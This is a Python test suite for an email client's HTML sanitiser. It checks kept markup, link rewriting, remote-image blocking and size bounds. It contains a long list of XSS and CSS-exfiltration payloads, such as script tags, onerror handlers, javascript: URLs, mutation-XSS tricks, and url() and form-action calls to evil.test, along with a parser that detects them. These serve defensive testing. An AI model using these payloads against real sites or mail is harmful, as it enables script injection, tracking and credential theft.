"""HTML that tries to do something."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from correio.mime.sanitise import MAX_HTML, sanitise_html

PARTS = {"logo@x.test": "/v1/messages/M1/parts/2"}


def clean(html: str) -> str:
    return sanitise_html(html, part_urls=PARTS).html


def in_order(html: str) -> list[str]:
    """The attributes that are set on links come in any order."""
    return sorted(re.split(r"[ >]", html))


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>Hello <b>world</b></p>", "<p>Hello <b>world</b></p>"),
        ("a & b < c", "a &amp; b &lt; c"),
        ("<b>unclosed", "<b>unclosed</b>"),
        ('<a href="https://x.test/?a=1&amp;b=2">l</a>', None),
        ('<img src="cid:logo@x.test" alt="a">', '<img src="/v1/messages/M1/parts/2" alt="a">'),
        ('<img src="cid:logo%40x.test">', '<img src="/v1/messages/M1/parts/2">'),
        ('<img src="cid:other@x.test">', "<img>"),
        ('<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA">'),
        (
            '<table><tr><td width="10" onclick="x">c</td></tr></table>',
            '<table><tbody><tr><td width="10">c</td></tr></tbody></table>',
        ),
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("<b><table><tr><td></b>x</td></tr></table>y", None),
        ('<p class="MsoNormal" id="x" name="y">t</p>', '<p class="MsoNormal">t</p>'),
        ("<li>a<li>b", "<li>a</li><li>b</li>"),
    ],
)
def test_what_stays(html: str, expected: str | None) -> None:
    found = clean(html)
    if expected is not None:
        assert found == expected
    if "cid:" not in html:
        assert in_order(clean(found)) == in_order(found)


def test_links_open_elsewhere_and_tell_nothing() -> None:
    found = clean('<a href="https://x.test/" target="_top" rel="opener">l</a>')
    assert sorted(re.findall(r'[a-z]+="[^"]*"', found)) == [
        'href="https://x.test/"', 'rel="noopener noreferrer"', 'target="_blank"',
    ]  # fmt: skip


NOT_IN_CSS = re.compile(
    r"@(?!media)|\\\\|<|expression|behavior|binding|position|image-set|url\((?!\"/v1/)|evil", re.IGNORECASE
)
PASSIVE_URL = re.compile(r"https?://(?!evil)|mailto:|tel:|#|/v1/|data:image/png")
ATTRIBUTES = frozenset(
    [
        "alt",
        "align",
        "href",
        "src",
        "title",
        "style",
        "class",
        "target",
        "rel",
        "width",
        "border",
        "value",
        "background",
        "dir",
        "lang",
        "color",
    ]
)
TAGS = frozenset(
    [
        "a",
        "b",
        "div",
        "font",
        "img",
        "li",
        "p",
        "style",
        "table",
        "tbody",
        "tr",
        "td",
        "th",
        "u",
        "i",
        "s",
        "span",
        "br",
        "hr",
        "ol",
        "ul",
    ]
)


class Active(HTMLParser):
    """Collects everything in HTML that is not plainly harmless."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.within = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.within = tag
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.found.append(name)
            # A link to a page does nothing until somebody follows it; two pieces may make one together.
            link = tag == "a" and name == "href" and (value or "").startswith(("https://", "http://"))
            if name in ("href", "src", "background") and not link and not PASSIVE_URL.match(value or ""):
                self.found.append(f"{name}={value}")
            if name == "style" and NOT_IN_CSS.search(value or ""):
                self.found.append(f"style={value}")

    def handle_endtag(self, tag: str) -> None:
        self.within = ""

    def handle_data(self, data: str) -> None:
        if self.within == "style" and NOT_IN_CSS.search(data):
            self.found.append(data)

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    handle_decl = handle_pi = unknown_decl = handle_comment


def active(html: str) -> list[str]:
    reader = Active()
    reader.feed(html)
    reader.close()
    return reader.found


def test_the_checker_itself_sees_what_is_active() -> None:
    assert all(active(html) for html in HOSTILE if html not in PLAIN_ALREADY)


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert("x")</script>">',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.test/'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>c</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<iframe src=https://evil.test/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=https://evil.test/x.swf></object><embed src=https://evil.test/x>",
    "<form action=https://evil.test/><input type=password><button formaction=https://evil.test/>b</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>@import url(https://evil.test/x.css);</style>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<style>@\\69mport 'https://evil.test/x.css';</style>",
    "<style>p{background:url(https://evil.test/x)}</style>",
    "<style>p{background:u\\72l(https://evil.test/x)}</style>",
    "<style>p{background:url(//evil.test/x)}</style>",
    "<style>p{background-image:image-set('https://evil.test/x' 1x)}</style>",
    "<style>p{background-image:-webkit-image-set(url(https://evil.test/x) 1x)}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.test/x)}</style>",
    "<style>@media all{@import 'https://evil.test/';p{background:url('https://evil.test/')}}</style>",
    "<style>p{color:red;}</style ><script>alert(1)</script>",
    "<style>a[href^='h']{background:url('https://evil.test/')}</style>",
    "<style>p{list-style:url(https://evil.test/)}p{cursor:url(https://evil.test/)}</style>",
    "<style>p::before{content:'\\3c script>alert(1)\\3c /script>'}</style>",
    "<style>x{font-family:'</style><img src=x onerror=alert(1)>'}</style>",
    "<style><!-- p{background:url(https://evil.test/)} --></style>",
    "<p style='background:url(https://evil.test/x)'>",
    "<p style='background:\\75\\72\\6c(https://evil.test/x)'>",
    "<p style='background:/**/url(https://evil.test/x)'>",
    '<p style="background:url(\'https://evil.test/x">',
    "<p style='width:expression(alert(1))'>",
    "<p style='width:ex/**/pression(alert(1))'>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x)'>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>",
    "<p style='POSITION : absolute'>",
    "<table background=https://evil.test/x><td background='//evil.test/x'>",
    "<img src=https://evil.test/x.gif>",
    "<img src='\\\\evil.test/x.gif'>",
    "<img src='/\\evil.test/x.gif'>",
    "<img src='ht\ntps://evil.test/x.gif'>",
    "<img srcset='https://evil.test/x.gif 2x'>",
    "<img lowsrc=https://evil.test/x dynsrc=https://evil.test/x>",
    "<video poster=https://evil.test/x><source src=https://evil.test/x></video>",
    "<body background=https://evil.test/x onload=alert(1)>",
    "<a href=https:evil.test>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='https://evil.test/'?>",
    "<p/onclick=alert(1)><p\x00onclick=alert(1)>",
    "<a href=x title='\"><img src=x onerror=alert(1)>'>y</a>",
    "<p title='`<img src=x onerror=alert(1)>`'>",
    '<p align="left"onclick="alert(1)">',
]


PLAIN_ALREADY = frozenset(
    (
        "<style>p::before{content:'\\3c script>alert(1)\\3c /script>'}</style>",
        "<p style='width:ex/**/pression(alert(1))'>",
        "<p title='`<img src=x onerror=alert(1)>`'>",
    )
)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_active_is_left(html: str) -> None:
    found = clean(html)
    assert active(found) == []
    assert in_order(clean(found)) == in_order(found)


def test_style_elements_are_kept_without_their_tricks() -> None:
    found = clean(
        "<style>/* c */ p , .a > b {color:red;position:fixed;background:#fff url(cid:logo@x.test)}\n"
        "@media screen and (max-width:600px){td{width:100%!important}}</style><p>x</p>"
    )
    assert found == (
        '<style>p , .a > b {color: red; background: #fff url("/v1/messages/M1/parts/2")}\n'
        "@media screen and (max-width:600px) {td {width: 100% !important}}</style><p>x</p>"
    )


def test_remote_pictures() -> None:
    html = "<img src=https://r.test/a.gif?x=1><p style='background:url(http://r.test/b)'>t</p><img src='//r.test/c'>"
    blocked = sanitise_html(html, part_urls={})
    assert blocked.blocked_remote == 3
    assert "r.test" not in blocked.html
    allowed = sanitise_html(html, part_urls={}, remote="allow")
    assert allowed.blocked_remote == 0
    assert allowed.html.count("r.test") == 3
    proxied = sanitise_html(html, part_urls={}, remote="proxy", proxy_prefix="/v1/proxy?url=")
    assert '<img src="/v1/proxy?url=https%3A%2F%2Fr.test%2Fa.gif%3Fx%3D1">' in proxied.html
    assert sanitise_html(html, part_urls={}, remote="proxy").blocked_remote == 3


def test_size_and_nesting_are_bounded() -> None:
    long = sanitise_html("<p>" + "x" * (MAX_HTML + 10), part_urls={})
    assert long.truncated
    assert len(long.html) <= MAX_HTML + 10
    assert sanitise_html("<div>" * 100_000, part_urls={}).html.count("<div>") <= 150
    assert (
        sanitise_html("".join(f"<font color={at}><p>" for at in range(20_000)), part_urls={}).html.count("<font")
        <= 300_000
    )
    deep = "<p style='width:" + "calc(" * 10_000 + "'>x"
    assert sanitise_html(deep, part_urls={}).html == "<p>x</p>"


@given(st.text("<>/=\"'`!-?& abcdefimgstyleonhrjv:;(){}@\\\x00\n\t", max_size=200))
def test_never_raises(html: str) -> None:
    assert active(clean(html)) == []


@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "<table>", "</table>", "<td>", "<p>", "</p>", "<b>", "</b>", "<!--", "-->", "'", '"', ">", "<a "]
        ),
        max_size=6,
    )
)
def test_hostile_pieces_together(pieces: list[str]) -> None:
    assert active(clean("".join(pieces))) == []
